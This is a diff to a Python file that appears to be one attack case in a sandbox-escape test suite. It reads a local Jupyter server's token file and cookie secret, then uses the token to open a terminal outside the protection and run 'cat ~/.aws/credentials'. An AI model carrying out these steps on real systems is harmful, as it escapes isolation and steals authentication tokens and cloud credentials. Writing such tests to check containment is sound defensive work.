@@ -1,12 +1,18 @@
-"""J3: reads the token and asks the server for a terminal outside of the protection"""
+"""J3: reads the token and has the server start a shell outside of the protection"""
 from kit import *
+from web import request, terminal
+
+
+def shell(w):
+    token = json.loads(read(w.server["file"]))["token"]
+    return terminal(w.server["port"], token, 'cat ~/.aws/credentials; echo "the end" of it')
 
 
 def attack(w):
-    runtime = w.home / ".local/share/jupyter/runtime"
-    yield "open jpserver", lambda: read(runtime / "jpserver-1.json")
-    yield "ask the server", lambda: connect("127.0.0.1", w.tcp, b"POST /api/terminals HTTP/1.0\r\nAuthorization: token " + w.token + b"\r\n\r\n")
-    yield "the cookie secret", lambda: read(w.home / ".local/share/jupyter/notebook_secret")
+    yield "read the server's file", lambda: read(w.server["file"])
+    yield "the cookie secret", lambda: read(os.path.join(os.path.dirname(w.server["file"]), "jupyter_cookie_secret"))
+    yield "ask the server", lambda: request(w.server["port"], "GET", "/api")
+    yield "a terminal outside of the session", lambda: shell(w)
 
 
 def twin(w):
